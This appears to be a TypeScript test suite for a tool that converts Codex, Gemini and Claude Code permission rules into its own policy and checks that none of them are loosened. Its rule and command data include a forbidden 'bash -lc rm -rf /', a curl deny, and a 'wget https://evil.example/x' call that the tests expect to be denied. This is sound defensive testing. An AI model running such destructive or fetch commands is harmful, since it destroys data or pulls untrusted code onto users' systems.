// Rules of other clients, carried over: nothing is allowed that the client would not allow, and what is left is named.
import fc from "fast-check";
import { expect, test } from "vitest";
import { analyseCommand } from "../../src/analysis/analyse.ts";
import { noWorld } from "../../src/analysis/world.ts";
import { type CarriedRules, carryOver } from "../../src/app/policy/import-rules.ts";
import { readClaudePermissions } from "../../src/clients/claude-permissions.ts";
import type { ClientRule, RuleFile } from "../../src/clients/client-rule.ts";
import { readCodexRules } from "../../src/clients/codex-rules.ts";
import { readGeminiPolicies } from "../../src/clients/gemini-policies.ts";
import type { CompiledPolicySet } from "../../src/policy/compile.ts";
import { compilePolicySet } from "../../src/policy/compile.ts";
import { decide } from "../../src/policy/decide.ts";
import { examplePlaces } from "../../src/policy/examples.ts";
import { input, policySet } from "../policy/calls.ts";

type Read = (files: readonly RuleFile[]) => ClientRule[];

const file = (text: string, scope: RuleFile["scope"] = "project", name = "rules"): RuleFile => ({
  name,
  scope,
  text,
});
const carried = (read: Read, text: string): CarriedRules => carryOver(read([file(text)]));
const codex = (text: string): CarriedRules => carried(readCodexRules, text);
const gemini = (text: string): CarriedRules => carried(readGeminiPolicies, text);

const compiled = ({ taken }: CarriedRules): CompiledPolicySet | null =>
  taken.length === 0
    ? null
    : compilePolicySet(policySet(taken.map(({ text }) => text).join("\n"), "{ shell.exec: ask }"));

function verdictIn(set: CompiledPolicySet | null, command: string): string {
  if (set === null) return "ask";
  const analysis = analyseCommand(command, { cwd: "/repo", places: examplePlaces, world: noWorld });
  return decide(input(analysis, { places: examplePlaces }), set).verdict;
}

const verdictOf = (rules: CarriedRules, command: string): string => verdictIn(compiled(rules), command);

const names = (rules: readonly { from: string }[]): string[] => rules.map(({ from }) => from);
const whys = (rules: readonly { from: string; at: string; why: string }[]): string[] =>
  rules.map(({ from, at, why }) => `${from} (${at}): ${why}`);

const decisions = ["allow", "prompt", "forbidden"] as const;
const strictest = (found: readonly (typeof decisions)[number][]): string =>
  ["ask", "allow", "ask", "deny"][Math.max(0, ...found.map((each) => decisions.indexOf(each) + 1))] ?? "";
const order = ["allow", "ask", "deny"];

test("Codex: what it does not allow is not allowed, and what it forbids is denied or named", () => {
  const program = fc.constantFrom("ls", "git", "echo", "cat");
  const word: fc.Arbitrary<string> = fc.constantFrom(
    "status",
    "log",
    "push",
    "-C",
    "x",
    "a b",
    "*",
    "{a,b}",
    "...",
    "'",
    "é",
    "",
  );
  const texts = (of: typeof word): fc.Arbitrary<string | string[]> =>
    fc.oneof(of, fc.uniqueArray(of, { minLength: 1, maxLength: 3 }));
  const rule = fc.record({
    pattern: fc
      .tuple(texts(program), fc.array(texts(word), { maxLength: 2 }))
      .map(([first, rest]) => [first, ...rest]),
    decision: fc.constantFrom("allow", ...decisions),
  });
  const command = fc
    .tuple(program, fc.array(word, { maxLength: 3 }))
    .map(([first, rest]) => [first, ...rest]);
  let allowed = 0;
  fc.assert(
    fc.property(
      fc.array(rule, { minLength: 1, maxLength: 5 }),
      fc.array(command, { minLength: 1, maxLength: 5 }),
      (rules, commands) => {
        const text = rules
          .map(
            ({ pattern, decision }) =>
              `prefix_rule(pattern = ${JSON.stringify(pattern)}, decision = "${decision}")\n`,
          )
          .join("");
        const result = codex(text);
        const set = compiled(result);
        for (const argv of commands) {
          const matching = rules.filter(({ pattern }) =>
            pattern.every((each, index) => [each].flat().includes(argv[index] ?? "")),
          );
          const shell = argv.map((each) => `'${each.replaceAll("'", "'\\''")}'`).join(" ");
          const found = verdictIn(set, shell);
          const expected = strictest(matching.map(({ decision }) => decision));
          if (found === "allow") allowed += 1;
          // Options before a subcommand are no words to mirror: what no rule is about may be what an allow is about.
          if (matching.length === 0 && argv[1] === "-C") continue;
          const lost = result.refused.some(({ from }) => from.startsWith(expected));
          const least = lost ? Math.min(order.indexOf(expected), 1) : order.indexOf(expected);
          expect([shell, order.indexOf(found) >= least]).toEqual([shell, true]);
        }
      },
    ),
    {
      numRuns: 200,
      examples: [
        [
          [
            {
              pattern: [
                ["ls", "git"],
                ["status", "-C"],
              ],
              decision: "forbidden",
            },
          ],
          [["git", "-C", "status", "log"]],
        ],
      ],
    },
  );
  expect(allowed).toBeGreaterThan(20);
});

test("Gemini: the rule of the highest priority, and nothing that it does not allow", () => {
  const program = fc.constantFrom("ls", "git", "echo");
  const rest = fc.array(fc.constantFrom("status", "log", "push", "x"), { maxLength: 2 });
  const command = fc.tuple(program, rest).map(([first, words]) => [first, ...words].join(" "));
  const prefix = fc.oneof({ weight: 9, arbitrary: command }, fc.constant(""));
  const rule = fc.record({
    prefix,
    decision: fc.constantFrom("allow", "allow", "ask_user", "deny"),
    priority: fc.integer({ min: 0, max: 5 }),
    kind: fc.constantFrom("commandPrefix", "commandPrefix", "commandPrefix", "commandRegex"),
  });
  let allowed = 0;
  fc.assert(
    fc.property(
      fc.uniqueArray(rule, { minLength: 1, maxLength: 5, selector: ({ priority }) => priority }),
      fc.array(command, { minLength: 1, maxLength: 5 }),
      (rules, commands) => {
        const result = gemini(
          rules
            .map(
              (each) =>
                `[[rule]]\ntoolName = "run_shell_command"\n${each.kind} = "${each.prefix}"\ndecision = "${each.decision}"\npriority = ${each.priority}\n`,
            )
            .join("\n"),
        );
        const set = compiled(result);
        for (const text of commands) {
          const winner = rules
            .filter(({ prefix: start, kind }) =>
              kind === "commandRegex"
                ? text.startsWith(start)
                : start === "" || text === start || text.startsWith(`${start} `),
            )
            .sort((a, b) => b.priority - a.priority)[0];
          const expected = winner === undefined ? "ask" : winner.decision.replace("ask_user", "ask");
          const found = verdictIn(set, text);
          if (found === "allow") allowed += 1;
          const lost = result.refused.some(({ from }) => from.startsWith(expected));
          const least = lost ? Math.min(order.indexOf(expected), 1) : order.indexOf(expected);
          expect([text, found, order.indexOf(found) >= least]).toEqual([text, found, true]);
        }
      },
    ),
    { numRuns: 200 },
  );
  expect(allowed).toBeGreaterThan(20);
});

test("Codex: what cannot be said is named with its place", () => {
  const rules = codex(
    [
      'prefix_rule(pattern = ["npm", ["test", "ls"]])',
      'prefix_rule(pattern = ["git", ["status", "diff"]])',
      'prefix_rule(pattern = ["npm", "--prefix"], decision = "forbidden")',
      'prefix_rule(pattern = ["/usr/bin/ls"], decision = "allow")',
      'prefix_rule(pattern = ["/usr/bin/curl"], decision = "forbidden", justification = "use `rg`")',
      'prefix_rule(pattern = ["bash", "-lc", "rm -rf /"], decision = "forbidden")',
      'prefix_rule(pattern = ["echo", "a b"], decision = "allow")',
      'prefix_rule(pattern = ["jq"], decision = "allow")',
      'host_executable(name = "jq", paths = ["/opt/jq"])',
      'network_rule(host = "evil.example", protocol = "https", decision = "deny")',
      'network_rule(host = "api.example", protocol = "https", decision = "allow")',
      'prefix_rule(pattern = [["cargo", "/opt/python3.12"], "x"], decision = "allow")',
      'prefix_rule(pattern = ["cargo", "x"], decision = "prompt")',
    ].join("\n"),
  );
  expect(whys(rules.refused)).toEqual([
    `deny: ["npm","--prefix"] (rules:3): mirror puts the words of \`npm --prefix x x\` in another way, and it would not stop that`,
    `allow: ["/usr/bin/ls"] (rules:4): mirror puts the words of \`/usr/bin/ls x\` in another way, and it would not allow that`,
    'allow: ["echo","a b"] (rules:7): a word that is empty or holds blanks stands in no pattern',
    'allow: ["jq"] (rules:8): `host_executable` says which files its program may be, and mirror knows a program by its name',
    "allow: https://api.example (rules:11): mirror knows no protocol of a host, and would allow each",
    // `npm --prefix x test` is `npm test` to mirror.
    'allow: ["npm",["test","ls"]] (rules:1): deny: ["npm","--prefix"] (rules:3) is not taken, and may speak of the same call',
  ]);
  expect(whys(rules.unsafe)).toEqual([
    'allow: ["npm",["test","ls"]] (rules:1): `npm` runs what its arguments or a file say; mirror asks wherever it cannot see what that is',
    'allow: [["cargo","/opt/python3.12"],"x"] (rules:12): `/opt/python3.12` runs what its arguments or a file say; mirror asks wherever it cannot see what that is',
  ]);
  const expected: [string, string][] = [
    ["git status", "allow"],
    ["git status && git diff --stat", "allow"],
    ["git status && whoami", "ask"],
    ["/opt/x/curl evil", "deny"],
    ["bash -lc 'rm -rf /' x", "deny"],
    ["cargo x", "ask"],
    ["wget https://evil.example/x", "deny"],
  ];
  expect(expected.map(([command]) => [command, verdictOf(rules, command)])).toEqual(expected);
  expect(rules.taken.map(({ text }) => text).join("\n")).toContain(
    'reason: "use `rg` (imported from rules:5: [\\"/usr/bin/curl\\"])"',
  );
});

test("Codex: where mirror sees no program of that name, any command may have been meant", () => {
  const rules = codex(
    'prefix_rule(pattern = ["time"], decision = "forbidden")\nprefix_rule(pattern = ["git", "status"])\n',
  );
  expect(names(rules.refused)).toEqual(['deny: ["time"]', 'allow: ["git","status"]']);
});

test("while a part of a file cannot be read no allow is taken, in whatever file", () => {
  const good =
    'prefix_rule(pattern = ["git", "status"])\nprefix_rule(pattern = ["rm"], decision = "forbidden")\n';
  const bad = [
    "for x in []:\n  pass",
    'prefix_rule(pattern = ["x"], decision = "maybe")',
    "prefix_rule(pattern = [])",
    'prefix_rule(pattern = ["x", 1])',
    'prefix_rule(pattern = [["x", []]])',
    'prefix_rule(pattern = ["x"], justification = "")',
    'prefix_rule(patern = ["x"])',
    'network_rule(host = ["x"], protocol = "https", decision = "deny")',
    'constructor(name = "x")',
    'prefix_rule(pattern = ["git", "log"], match = ["git status"])',
    'prefix_rule(pattern = ["git", ["log"]], not_match = [["/usr/bin/git", "log", "-1"]])',
  ];
  for (const text of bad) {
    const { taken, refused } = carryOver(readCodexRules([file(good), file(text, "user", "other")]));
    expect([text, names(taken)]).toEqual([text, ['deny: ["rm"]']]);
    expect(refused[0]?.at).toMatch(/^other:1:\d+$/);
    expect(refused.at(-1)?.why).toMatch(/\(other:1:\d+\) could not be read, and may speak of the same call/);
  }
});

const shell = (more: string, decision = "allow", priority = 100): string =>
  `[[rule]]\ntoolName = "run_shell_command"\n${more}\ndecision = "${decision}"\npriority = ${priority}\n`;

test("Gemini: a condition that mirror has not takes the rule away, and the allows it may have won over", () => {
  const conditions = [
    'commandRegex = "git (commit|push)"',
    'argsPattern = "\\"command\\":\\"git"',
    'commandPrefix = "git"\nsubagent = "x"',
    'commandPrefix = "git"\ninteractive = true',
    'commandPrefix = "git"\ntoolAnnotations = { readOnlyHint = true }',
    'commandPrefix = "git commit -m \\"x"',
  ];
  for (const each of conditions) {
    const allow = shell('commandPrefix = "git status"');
    const under = gemini(allow + shell(each, "deny", 200));
    expect([each, names(under.taken), under.refused.length]).toEqual([
      each,
      each.includes("commit -m") ? ['allow: run_shell_command "git status"'] : [],
      each.includes("commit -m") ? 1 : 2,
    ]);
    // One of a lower priority would not have been heard.
    expect(names(gemini(allow + shell(each, "deny", 50)).taken)).toHaveLength(1);
    const allowed = gemini(shell(each) + shell('commandPrefix = "ls"'));
    expect([each, names(allowed.taken)]).toEqual([each, ['allow: run_shell_command "ls"']]);
  }
  // A checker of the client's may stop what a rule of any priority lets through.
  const checker =
    '[[safety_checker]]\ntoolName = "run_shell_command"\ncommandPrefix = "git"\nchecker = { type = "external", name = "x" }\n';
  const checked = gemini(shell('commandPrefix = ["git status", "ls"]', "allow", 999) + checker);
  expect([names(checked.taken), checked.refused[0]?.why, checked.refused[0]?.at]).toEqual([
    ['allow: run_shell_command "ls"'],
    "mirror has nothing that says `checker`",
    "rules:6",
  ]);
  // A regular expression that begins with a program speaks of no other.
  expect(
    names(gemini(shell('commandRegex = "git (a|b)"', "deny", 200) + shell('commandPrefix = "ls"')).taken),
  ).toEqual(['allow: run_shell_command "ls"']);
  expect(
    gemini(shell('commandRegex = "git a|ls"', "deny", 200) + shell('commandPrefix = "ls"')).taken,
  ).toEqual([]);
});

test("Gemini: tools, servers, modes and tiers", () => {
  const rule = (what: string, decision = "allow", priority = 100): string =>
    `[[rule]]\n${what}\ndecision = "${decision}"\npriority = ${priority}\n`;
  const one = (what: string, decision = "allow"): string => {
    const { taken, refused } = gemini(rule(what, decision));
    return (
      taken
        .map(({ text }) => text.split("\n").slice(2, -1).join(" ").replace(/ +/g, " ").trim())
        .join(" | ") ||
      (refused[0]?.why ?? "")
    );
  };
  const cases: [string, string, string][] = [
    ['toolName = "read_file"', "allow", 'action: ["fs.read"] path: ["**"]'],
    ['toolName = "read_file"', "deny", 'action: ["fs.read"] path: ["/**"]'],
    ['toolName = ["write_file", "replace"]', "ask_user", 'action: ["fs.write"] path: ["/**"]'],
    ['toolName = "web_fetch"', "allow", 'action: ["net.connect"] host: ["*"] when: {"direction":"fetch"}'],
    ['toolName = "web_fetch"', "deny", 'action: ["net.connect"] host: ["*"]'],
    ['toolName = "invoke_agent"', "ask_user", 'action: ["agent.spawn"] agent: ["*"]'],
    ['mcpName = "github"', "allow", 'action: ["mcp.call"] mcp: ["github/*"]'],
    ['mcpName = "github"\ntoolName = "get_issue"', "allow", 'action: ["mcp.call"] mcp: ["github/get_issue"]'],
    ['mcpName = "*"\ntoolName = "*"', "deny", 'action: ["mcp.call"] mcp: ["*/*"]'],
    ['toolName = "mcp_a_b_c"', "allow", 'action: ["mcp.call"] mcp: ["a/b_c"]'],
    ['toolName = "mcp_a_b_c"', "deny", 'action: ["mcp.call"] mcp: ["a/b_c","a_b/c"]'],
    ['toolName = "mcp_*"', "deny", 'action: ["mcp.call"] mcp: ["*/*"]'],
    ['toolName = "mcp_*_drop"', "deny", 'action: ["mcp.call"] mcp: ["*/drop"]'],
    ['toolName = "a__b"', "deny", 'action: ["mcp.call"] mcp: ["a/b"]'],
    ['toolName = "a__b"', "allow", "the client does not read `server__tool` any more"],
    ['toolName = "mcp_a"', "deny", "it names no server and tool"],
    ['toolName = "*"', "allow", "it allows every tool; allow the ones you mean"],
    ['toolName = "run_shell_command"', "allow", "it allows every command; allow the ones you mean"],
    ['commandPrefix = ""', "allow", "it allows every command; allow the ones you mean"],
    ['toolName = "run_shell_command"', "ask_user", 'action: ["shell.exec"]'],
    [
      'toolName = "save_memory"',
      "allow",
      "mirror decides what a call does, and `save_memory` says nothing of that",
    ],
    [
      'toolName = "read_file"\ncommandPrefix = "ls"',
      "allow",
      "`commandPrefix` stands with `run_shell_command` alone",
    ],
    [
      'toolName = "read_file"\nmodes = ["yolo"]',
      "allow",
      "it holds in yolo alone, and mirror knows no such modes",
    ],
  ];
  expect(cases.map(([what, decision]) => [what, decision, one(what, decision)])).toEqual(cases);
  const saved = gemini(rule('toolName = "read_file"\nmodes = ["default", "autoEdit", "yolo"]'));
  expect(saved.taken[0]?.remarks.at(-1)).toBe(
    "the client does not hold it in plan mode; mirror knows no modes",
  );
  // What the person says wins over the project, whatever the numbers.
  const both = carryOver(
    readGeminiPolicies([
      file(shell('commandPrefix = "git"', "deny", 900), "project", "p.toml"),
      file(shell('commandPrefix = "git status"', "allow", 1), "user", "u.toml"),
    ]),
  );
  expect(both.taken[0]?.remarks).toEqual(["it does not speak where by priority an allow wins: u.toml:1"]);
  expect([verdictOf(both, "git status"), verdictOf(both, "git push")]).toEqual(["allow", "deny"]);
  const other = carryOver(
    readGeminiPolicies([
      file(shell('commandPrefix = "git"', "deny", 1), "user"),
      file(shell('commandPrefix = "git status"', "allow", 900), "project"),
    ]),
  );
  expect(verdictOf(other, "git status")).toBe("deny");
});

test("Gemini: files that are none, hostile or not", () => {
  const good = shell('commandPrefix = "git status"') + shell('commandPrefix = "rm"', "deny");
  const bad: [string, RegExp][] = [
    ["safety_checker = 1", /^other: its `safety_checker` is no list/],
    ["[[rule]\n", /^other:1:8: it is no TOML: expected end of table/],
    [`x = "unterminated`, /^other:1:\d+: it is no TOML/],
    [`x = ${"[".repeat(500_000)}`, /^other:1:\d+: it is no TOML/],
    [`[${"a.".repeat(100_000)}a]\n__proto__ = 1`, /^other:\d+:\d+: it is no TOML/],
    ["rule = 1", /^other: its `rule` is no list/],
    ["rule = [1]", /^other \(rule 1\): it is no table/],
    [shell('commandPrefix = "x"', "maybe"), /^other:1: its `decision`/],
    [shell('commandPrefix = "x"', "deny", 1_000), /^other:1: its `priority`/],
    [shell("commandPrefix = [1]"), /^other:1: .*is no text/],
    [shell("commandRegex = []"), /^other:1: its `commandRegex` is no text/],
  ];
  for (const [text, problem] of bad) {
    const { taken, refused } = carryOver(readGeminiPolicies([file(good), file(text, "user", "other")]));
    expect([text.slice(0, 80), names(taken)]).toEqual([text.slice(0, 80), ['deny: run_shell_command "rm"']]);
    expect(`${refused[0]?.at}: ${refused[0]?.why}`).toMatch(problem);
  }
  // A header within a text makes the count wrong, and then no line is claimed.
  const { taken } = gemini(`x = """\n[[rule]]\n"""\n${shell('commandPrefix = "ls"')}`);
  expect(taken[0]?.at).toBe("rules (rule 1)");
});

test("Claude Code: rules of two files that say the same become one, and a settings file that is none is named", () => {
  const settings = (permissions: unknown): string => JSON.stringify({ permissions }, null, 1);
  const twice = settings({
    allow: ["Bash(git diff:*)", "Bash(foo ...)", "Bash(ls ?)"],
    deny: ["Read(app/[id]/x)"],
  });
  const { taken, refused } = carryOver(
    readClaudePermissions([
      file(twice, "project", "a"),
      file(settings({ allow: ["Bash(git diff:*)"] }), "user", "b"),
    ]),
  );
  // A denied path that is lost is one that commands are held to, too.
  expect(names(taken)).toEqual([]);
  expect(refused.map(({ from, at }) => [from, at])).toEqual([
    ["deny: Read(app/[id]/x)", "a:9"],
    ["allow: Bash(git diff:*)", "a:4"],
    ["allow: Bash(foo ...)", "a:5"],
    ["allow: Bash(ls ?)", "a:6"],
    ["allow: Bash(git diff:*)", "b:4"],
  ]);
  const rules = carryOver(
    readClaudePermissions([
      file(settings({ allow: ["Bash(git diff:*)", "Bash(foo ...)", "Bash(ls ?)"] }), "project", "a"),
      file(settings({ allow: ["Bash(git diff:*)"], ask: ["Bash(git diff:*)"] }), "user", "b"),
    ]),
  );
  expect(rules.refused.map(({ why }) => why)).toEqual([
    "allow: Bash(git diff:*) (a:4) is about the same, and wins",
  ]);
  expect(rules.taken.map(({ text }) => /command: (.*)/.exec(text)?.[1])).toEqual([
    '["git diff ..."]',
    '["foo \\\\..."]',
    '["ls \\\\?"]',
    '["git diff* ..."]',
  ]);
  expect(carryOver(readClaudePermissions([file("{ not json")])).refused).toEqual([
    { from: "{ not json", at: "rules:1:3", why: "it is no JSON" },
  ]);
});

test("many rules are carried over in seconds", () => {
  const many = Array.from({ length: 3_000 }, (_, index) =>
    shell(`commandPrefix = "x${index} y"`, ["allow", "deny", "ask_user"][index % 3], index % 1_000),
  ).join("");
  const start = performance.now();
  expect(gemini(many).taken).toHaveLength(3_000);
  expect(performance.now() - start).toBeLessThan(20_000);
});
